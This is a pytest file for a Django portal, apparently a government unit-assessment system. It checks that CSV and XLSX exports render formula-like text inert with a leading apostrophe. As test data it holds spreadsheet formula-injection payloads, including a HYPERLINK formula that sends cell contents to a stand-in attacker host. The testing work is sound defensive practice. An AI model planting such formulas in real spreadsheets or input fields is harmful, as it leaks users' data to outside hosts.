"""What one person types never runs as a formula in another person's spreadsheet: every CSV and
XLSX the portal writes shows a unit name, province, justification, filter or question text that
starts like a formula as text, with a leading apostrophe, and keeps numbers as numbers."""

import csv
import datetime
import hashlib
import io
import zipfile
from decimal import Decimal

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from hypothesis import given
from hypothesis import settings as hypothesis_settings
from hypothesis import strategies as st
from openpyxl import load_workbook
from openpyxl.utils.escape import unescape

from areas.instrument_xlsx import export_version
from areas.instrument_xlsx_import import import_version
from areas.models import Question
from assessments.evidence.services import evidence_upload
from assessments.models import Status
from core.cells import spreadsheet_text, spreadsheet_text_read
from reports import services, worker
from reports.models import JobStatus
from tests.assessments.test_evidence_files import make_pdf
from tests.factories import AssessmentFactory, UnitFactory
from units.models import UnitKind

HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1,"Klik")'
PAYLOADS = [HYPERLINK, "+1+1", "-2+3", "@SUM(1)", "\t=1", "\r=1"]
TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "\n")


# --------------------------------------------------------------------------- the helper


@pytest.mark.parametrize("text", [*PAYLOADS, "\n=1", "  =1", "'=1", "-", "="])
def test_text_that_starts_like_a_formula_gets_an_apostrophe(text):
    assert spreadsheet_text(text) == "'" + text


@pytest.mark.parametrize("text", ["Kankemenag Kota Semarang", "", "a=b", "'Kutipan'", "– 5", "＝1"])
def test_ordinary_text_is_left_as_it_is(text):
    assert spreadsheet_text(text) == text


@pytest.mark.parametrize(
    "value", [None, 0, 7, -2, -2.5, Decimal("-1.25"), Decimal("95.69"), datetime.date(2026, 1, 2)]
)
def test_numbers_and_dates_stay_what_they_are(value):
    assert spreadsheet_text(value) is value


@hypothesis_settings(database=None, max_examples=300)
@given(st.text(alphabet=st.sampled_from("'= +-@\t\r\nab"), max_size=6) | st.text(max_size=6))
def test_reading_an_exported_text_back_gives_the_original(text):
    escaped = spreadsheet_text(text)
    assert spreadsheet_text_read(escaped) == text
    assert not escaped.startswith(TRIGGERS)


# --------------------------------------------------------------------------- checking files


def _assert_inert_xlsx(data: bytes, expected: list[str]) -> list:
    """No cell of any sheet is a formula, and each `expected` text is there behind an
    apostrophe. Returns every cell value, for further checks."""
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                xml = archive.read(name)
                assert b"<f>" not in xml and b"<f " not in xml, name
    book = load_workbook(io.BytesIO(data))
    values = []
    for sheet in book:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                value = cell.value
                if isinstance(value, str):
                    # Excel's writers keep a CR as _x000D_, which openpyxl reads back as is.
                    value = unescape(value)
                    assert not value.startswith(TRIGGERS), (sheet.title, cell.coordinate)
                values.append(value)
    texts = {v for v in values if isinstance(v, str)}
    for text in expected:
        assert "'" + text in texts, repr(text)
        assert text not in texts, repr(text)
    return values


def _assert_inert_csv(text: str, expected: list[str]) -> list[list[str]]:
    rows = list(csv.reader(io.StringIO(text)))
    fields = {field for row in rows for field in row}
    assert not [f for f in fields if f.startswith(TRIGGERS)]
    for payload in expected:
        assert "'" + payload in fields, payload
    return rows


def _run(kind: str, params: dict, user) -> bytes:
    job = services.report_request(kind=kind, params=params, by=user)
    worker.report_run(job_id=job.pk)
    job.refresh_from_db()
    assert job.status == JobStatus.DONE, job.error
    return job.file.read()


# --------------------------------------------------------------------------- readiness report


@pytest.fixture
def hostile_units(period, tree):
    """A Kanwil whose name is a formula, with one unit per formula payload as its name and its
    province."""
    kanwil = UnitFactory(
        code="KW-EVIL", name=HYPERLINK, kind=UnitKind.KANWIL, parent=tree.pusat,
        province=HYPERLINK,
    )  # fmt: skip
    for n, payload in enumerate(PAYLOADS):
        unit = UnitFactory(
            code=f"EVIL-{n}", name=payload, kind=UnitKind.KANKEMENAG, parent=kanwil,
            province=payload,
        )  # fmt: skip
        AssessmentFactory(period=period, unit=unit, status=Status.PENCANANGAN)
    return kanwil


def test_readiness_xlsx_shows_typed_formulas_and_the_province_filter_as_text(
    period, hostile_units, personas, storage
):
    data = _run("readiness", {"period": 2026, "format": "xlsx"}, personas["admin"])
    _assert_inert_xlsx(data, PAYLOADS)
    filtered = _run(
        "readiness", {"period": 2026, "format": "xlsx", "province": HYPERLINK}, personas["admin"]
    )
    _assert_inert_xlsx(filtered, [HYPERLINK])
    summary = load_workbook(io.BytesIO(filtered))["Ringkasan"]
    header = {row[0]: row[1] for row in summary.iter_rows(values_only=True) if row and row[0]}
    assert header["Provinsi"] == "'" + HYPERLINK
    detail = load_workbook(io.BytesIO(filtered))["Semua unit"]
    assert [row[1] for row in detail.iter_rows(min_row=2, values_only=True)] == ["EVIL-0"]


def test_readiness_csv_shows_typed_formulas_as_text(period, hostile_units, personas, storage):
    data = _run("readiness", {"period": 2026, "format": "csv"}, personas["admin"])
    rows = _assert_inert_csv(data.decode("utf-8-sig"), PAYLOADS)
    header = rows[0]
    names = {row[header.index("Kode")]: row[header.index("Nama unit")] for row in rows[1:]}
    assert names["EVIL-2"] == "'-2+3"
    assert {row[header.index("Kanwil/Eselon I")] for row in rows[1:]} == {"'" + HYPERLINK}


# --------------------------------------------------------------------------- proposals to TPN


def test_proposals_xlsx_shows_names_provinces_and_justifications_as_text(
    client_for, period, tree, personas
):
    parent = UnitFactory(code="KW-EVIL", name="@SUM(1)", kind=UnitKind.KANWIL, parent=tree.pusat)
    for n, payload in enumerate(PAYLOADS):
        unit = UnitFactory(
            code=f"EVIL-{n}", name=payload, province=payload, kind=UnitKind.KANKEMENAG,
            parent=parent,
        )  # fmt: skip
        AssessmentFactory(
            period=period, unit=unit, status=Status.PROPOSED, proposal_override_note=payload
        )
    response = client_for("admin").get(reverse("assessments:proposals_export", args=[period.pk]))
    assert response.status_code == 200
    _assert_inert_xlsx(response.content, PAYLOADS)
    sheet = load_workbook(io.BytesIO(response.content)).active
    header = [c.value for c in sheet[1]]
    for row in sheet.iter_rows(min_row=2, values_only=True):
        payload = PAYLOADS[int(row[0].removeprefix("EVIL-"))]
        assert row[header.index("Nama unit")] == "'" + payload
        assert row[header.index("Provinsi")] == "'" + payload
        assert row[header.index("Justifikasi pengusulan")] == "'" + payload
        assert row[header.index("Kanwil/induk")] == "'@SUM(1)"
        assert isinstance(row[header.index("Nilai TPI")], int | float)  # a number, not text


# --------------------------------------------------------------------------- LKE instrument


def test_instrument_xlsx_shows_question_texts_as_text_and_reads_them_back(lke):
    payloads = PAYLOADS
    questions = list(lke.questions.order_by("position", "pk")[: len(payloads)])
    for question, payload in zip(questions, payloads, strict=True):
        question.text = payload
        question.guidance = payload
        question.save(update_fields=["text", "guidance"])
    lke.notes = "-catatan"
    lke.save(update_fields=["notes"])
    first = export_version(lke)
    _assert_inert_xlsx(first, [*payloads, "-catatan"])
    copy = import_version(first, by=None)
    texts = dict(Question.objects.filter(version=copy).values_list("code", "text"))
    for question, payload in zip(questions, payloads, strict=True):
        assert texts[question.code] == payload
    assert copy.notes == "-catatan"
    assert hashlib.sha256(export_version(copy)).digest() == hashlib.sha256(first).digest()


# --------------------------------------------------------------------------- evidence ZIP


def test_evidence_manifest_shows_every_typed_formula_as_text(assessment, personas, storage):
    assessment.status = Status.PEMBANGUNAN
    assessment.save()
    question = assessment.period.lke_version.questions.get(code="P1.1.a")
    for payload in PAYLOADS:
        evidence_upload(
            assessment=assessment, kind="answer", question=question, by=personas["operator"],
            uploaded_file=SimpleUploadedFile("=cmd.pdf", make_pdf()),
            description=payload,
        )  # fmt: skip
    stored = set(assessment.evidence.values_list("description", flat=True))
    assert "=1" in stored  # the upload strips the description: "\t=1" and "\r=1" became "=1"
    data = _run("evidence_zip", {"assessment": assessment.pk}, personas["operator"])
    manifest = zipfile.ZipFile(io.BytesIO(data)).read("manifest.csv").decode("utf-8-sig")
    rows = _assert_inert_csv(manifest, [*stored, "=cmd.pdf"])
    header = rows[0]
    assert {row[header.index("keterangan")] for row in rows[1:]} == {"'" + d for d in stored}
    assert all(row[header.index("ukuran")].isdigit() for row in rows[1:])  # numbers stay numbers
